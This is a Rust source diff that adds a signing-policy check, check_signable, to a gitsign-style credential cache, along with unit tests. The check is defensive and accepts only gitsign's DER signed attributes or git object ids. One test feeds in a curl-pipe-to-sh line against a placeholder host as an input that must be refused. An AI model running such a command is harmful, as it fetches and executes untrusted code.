@@ -504,13 +504,93 @@ pub fn utc_time(t: i64) -> Vec<u8> {
 /// The signed attributes gitsign writes — contentType id-data, signingTime,
 /// messageDigest SHA-256(payload) — as the DER `SET OF` the signature covers.
 pub fn signed_attributes(payload: &[u8], signing_time: i64) -> Vec<u8> {
+    signed_attributes_for_digest(&crate::crypto::sha256(payload), signing_time)
+}
+
+/// [`signed_attributes`] for a payload whose SHA-256 is `digest`.
+pub fn signed_attributes_for_digest(digest: &[u8; 32], signing_time: i64) -> Vec<u8> {
     let content_type = attribute(oid::CONTENT_TYPE, &asn1::encode(tag::OID, oid::DATA));
     let time = attribute(oid::SIGNING_TIME, &utc_time(signing_time));
     let digest = attribute(
         oid::MESSAGE_DIGEST,
-        &asn1::encode(tag::OCTET_STRING, &crate::crypto::sha256(payload)),
+        &asn1::encode(tag::OCTET_STRING, digest),
     );
     der_set_of(vec![content_type, time, digest])
+}
+
+/// Largest message [`check_signable`] looks at (gitsign's signed
+/// attributes are about 100 bytes).
+const MAX_SIGNABLE: usize = 1024;
+
+/// Checks that `message` is one of the two things gitsign ever asks a key
+/// holder (the credential cache daemon) to sign, and nothing else: the DER
+/// signed attributes of a git signature, exactly as [`signed_attributes`]
+/// lays them out (contentType id-data, a UTCTime signingTime, a 32-byte
+/// messageDigest, in DER order, nothing more), or a git object id as
+/// online mode logs it (40 or 64 lowercase hex digits). Anything else (an
+/// artifact, a token's subject, another protocol's bytes) is refused with
+/// a sentence, so that whoever reaches the daemon cannot have it sign what
+/// a Sigstore verifier of artifacts would accept.
+pub fn check_signable(message: &[u8]) -> Result<(), String> {
+    let refused = |what: &str| {
+        Err(format!(
+            "refused to sign {what}: the credential cache signs only what gitsign signs, the \
+             DER signed attributes of a git commit or tag signature (contentType, signingTime, \
+             messageDigest) or a lowercase hex git object id (40 or 64 digits)"
+        ))
+    };
+    if matches!(message.len(), 40 | 64)
+        && message
+            .iter()
+            .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(b))
+    {
+        return Ok(());
+    }
+    if message.len() > MAX_SIGNABLE {
+        return refused(&format!("a message of {} bytes", message.len()));
+    }
+    match parse_signed_attributes(message) {
+        Some((digest, time)) if signed_attributes_for_digest(&digest, time) == message => Ok(()),
+        Some(_) => refused("signed attributes in another layout than gitsign's"),
+        None => refused(&format!(
+            "a message of {} bytes that is neither",
+            message.len()
+        )),
+    }
+}
+
+/// The messageDigest and signingTime of DER signed attributes that hold
+/// exactly contentType, signingTime and messageDigest (32 bytes).
+fn parse_signed_attributes(der: &[u8]) -> Option<([u8; 32], i64)> {
+    let set = asn1::parse_single(der, tag::SET, "signed attributes").ok()?;
+    let mut r = set.reader();
+    let (mut digest, mut time, mut content_type) = (None, None, false);
+    for _ in 0..3 {
+        let attr = r.read(tag::SEQUENCE, "attribute").ok()?;
+        let mut a = attr.reader();
+        let id = a.read(tag::OID, "attribute type").ok()?;
+        let values = a.read(tag::SET, "attribute values").ok()?;
+        a.finish("attribute").ok()?;
+        let value =
+            asn1::parse_single(values.value, values.value.first().copied()?, "value").ok()?;
+        match id.value {
+            x if x == oid::CONTENT_TYPE && value.tag == tag::OID && value.value == oid::DATA => {
+                content_type = true
+            }
+            x if x == oid::SIGNING_TIME && value.tag == tag::UTC_TIME => {
+                time = Some(value.time("signingTime").ok()?)
+            }
+            x if x == oid::MESSAGE_DIGEST && value.tag == tag::OCTET_STRING => {
+                digest = Some(<[u8; 32]>::try_from(value.value).ok()?)
+            }
+            _ => return None,
+        }
+    }
+    r.finish("signed attributes").ok()?;
+    if !content_type {
+        return None;
+    }
+    Some((digest?, time?))
 }
 
 /// The unsigned attribute carrying a Rekor `TransparencyLogEntry` (protobuf).
@@ -569,4 +649,56 @@ pub fn build_signed_data(
 /// PEM armor as git stores CMS signatures.
 pub fn armor(der: &[u8]) -> String {
     crate::pem::encode("SIGNED MESSAGE", der)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn only_gitsign_shapes_are_signable() {
+        let attrs = signed_attributes(b"tree x\n", 1_790_000_000);
+        check_signable(&attrs).unwrap();
+        check_signable(b"0123456789abcdef0123456789abcdef01234567").unwrap();
+        check_signable(&[b'a'; 64]).unwrap();
+        let refused = |m: &[u8]| {
+            let e = check_signable(m).unwrap_err();
+            assert!(e.contains("signs only what gitsign signs"), "{e}");
+        };
+        refused(b"");
+        refused(b"#!/bin/sh\ncurl https://example.invalid | sh\n");
+        refused(b"0123456789ABCDEF0123456789ABCDEF01234567");
+        refused(&[b'a'; 41]);
+        refused(&[b'a'; 1 << 20]);
+        // Gitsign's layout and nothing else: an extra attribute, a missing
+        // one, another digest length, another content type, the elements
+        // out of DER order, trailing bytes.
+        let ct = attribute(oid::CONTENT_TYPE, &asn1::encode(tag::OID, oid::DATA));
+        let time = attribute(oid::SIGNING_TIME, &utc_time(1_790_000_000));
+        let digest = attribute(
+            oid::MESSAGE_DIGEST,
+            &asn1::encode(tag::OCTET_STRING, &[7u8; 32]),
+        );
+        check_signable(&der_set_of(vec![ct.clone(), time.clone(), digest.clone()])).unwrap();
+        let extra = attribute(oid::SIGNING_TIME, &utc_time(1));
+        refused(&der_set_of(vec![
+            ct.clone(),
+            time.clone(),
+            digest.clone(),
+            extra,
+        ]));
+        refused(&der_set_of(vec![ct.clone(), time.clone()]));
+        let short = attribute(
+            oid::MESSAGE_DIGEST,
+            &asn1::encode(tag::OCTET_STRING, &[7u8; 20]),
+        );
+        refused(&der_set_of(vec![ct.clone(), time.clone(), short]));
+        let other_ct = attribute(oid::CONTENT_TYPE, &asn1::encode(tag::OID, oid::SIGNED_DATA));
+        refused(&der_set_of(vec![other_ct, time.clone(), digest.clone()]));
+        let parts: Vec<&[u8]> = vec![&digest, &time, &ct];
+        refused(&asn1::encode_parts(tag::SET, &parts));
+        let mut trailing = attrs.clone();
+        trailing.push(0);
+        refused(&trailing);
+    }
 }
